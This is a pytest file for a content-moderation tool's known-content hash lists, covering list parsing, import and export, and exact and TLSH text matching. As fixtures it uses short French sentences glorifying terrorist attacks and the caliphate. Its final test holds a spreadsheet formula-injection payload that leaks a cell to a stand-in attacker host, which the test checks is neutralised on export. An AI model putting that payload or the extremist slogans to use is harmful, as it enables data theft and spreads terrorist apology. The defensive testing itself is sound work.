"""Known-content hashes: lists in and out, exact and TLSH matching, bad lists refused."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from tocsin.core.errors import Invalid
from tocsin.watch import hashes
from tocsin.watch.models import WatchHash

SHA = "a" * 64


def test_text_hash_folds_case_accents_and_spaces() -> None:
    assert hashes.text_hash("Gloire  aux MARTYRS, à Paris") == hashes.text_hash(
        "gloire aux martyrs, a paris")
    assert hashes.text_hash("gloire") != hashes.text_hash("gloires")


@pytest.mark.parametrize("text, message", [
    ("", "header"),
    ("type,value\nsha256," + SHA, "header"),
    ("signal_type,signal\nsha256,xyz", "line 2"),
    ("signal_type,signal\nvpdq," + SHA, "unknown signal type"),
    ("signal_type,signal\ndhash,00000000000000ff", "dhash lists are no longer matched"),
    ("signal_type,signal\npdq," + SHA[:62], "a pdq signal is 64"),
    ("signal_type,signal\nmd5," + SHA, "32 hexadecimal"),
    ("signal_type,signal,category\nsha256," + SHA + ",spam", "unknown category"),
    ("signal_type,signal\nsha256", "line 2"),
])
def test_malformed_lists_are_refused(text: str, message: str) -> None:
    with pytest.raises(Invalid, match=message):
        hashes.parse_list(text, default_source="t")


def test_import_export_round_trip(db: Session) -> None:
    text = ("signal_type,signal,category,source\n"
            f"sha256,{SHA.upper()},terrorism_apology,partner\n"
            f"text_sha256,{'b' * 64},hate,\n"
            f"pdq,{'0f' * 32},terrorism_apology,partner\n"
            f"video_sha256,{SHA},terrorism_apology,dup\n")
    signals = hashes.parse_list(text, default_source="import:t")
    assert hashes.import_list(db, signals) == 3  # the duplicate counts once
    assert hashes.import_list(db, signals) == 0
    exported = hashes.export_list(db)
    again = hashes.parse_list(exported, default_source="x")
    assert {(s.signal_type, s.signal, s.category) for s in again} == {
        (s.signal_type, s.signal, s.category) for s in signals}
    assert db.scalar(select(func.count()).select_from(WatchHash)) == 3


def test_tlsh_matches_a_near_copy_of_a_text(db: Session) -> None:
    text = ("Gloire aux martyrs de la nuit du 13 novembre, que leur exemple inspire les frères "
            "qui se lèveront demain contre les mécréants de cette ville.")
    known = hashes.text_tlsh(text)
    assert known is not None
    hashes.import_list(db, hashes.parse_list(
        f"signal_type,signal,category\ntlsh,{known.lower()},terrorism_apology\n",
        default_source="t"))
    near = hashes.text_tlsh(text.replace("13 novembre", "13 nov.").replace("ville", "cité"))
    (hit,) = hashes.match(db, tlsh_hash=near)
    assert hit["signal"] == known and 0 < int(hit["distance"]) <= 30  # type: ignore[call-overload]
    other = hashes.text_tlsh("Rendez-vous samedi au marché de la place d'Aligre pour la "
                             "collecte de vêtements chauds, apportez des sacs et du café.")
    assert hashes.match(db, tlsh_hash=other) == []
    assert hashes.text_tlsh("trop court") is None


def test_exact_text_match(db: Session) -> None:
    digest = hashes.text_hash("Vive le califat")
    hashes.import_list(db, hashes.parse_list(
        f"signal_type,signal,category\ntext_sha256,{digest},terrorism_apology\n",
        default_source="t"))
    assert hashes.match(db, text_sha256=hashes.text_hash("VIVE le  califat"))
    assert not hashes.match(db, text_sha256=hashes.text_hash("Vive la république"))


def test_export_neutralises_formulas_in_sources(db: Session) -> None:
    """Issue 19: a partner's ``source`` must not run as a formula in the moderator's sheet."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    text = ("signal_type,signal,category,source\n"
            f"sha256,{SHA},hate,\"{evil.replace(chr(34), chr(34) * 2)}\"\n"
            f"md5,{'c' * 32},hate,@SUM(1+1)\n"
            f"pdq,{'0f' * 32},hate,-1+2\n")
    hashes.import_list(db, hashes.parse_list(text, default_source="t"))
    rows = list(csv.reader(io.StringIO(hashes.export_list(db))))
    assert {r[3] for r in rows[1:]} == {"'" + evil, "'@SUM(1+1)", "'-1+2"}
    assert {r[1] for r in rows[1:]} == {SHA, "c" * 32, "0f" * 32}  # hashes themselves unchanged
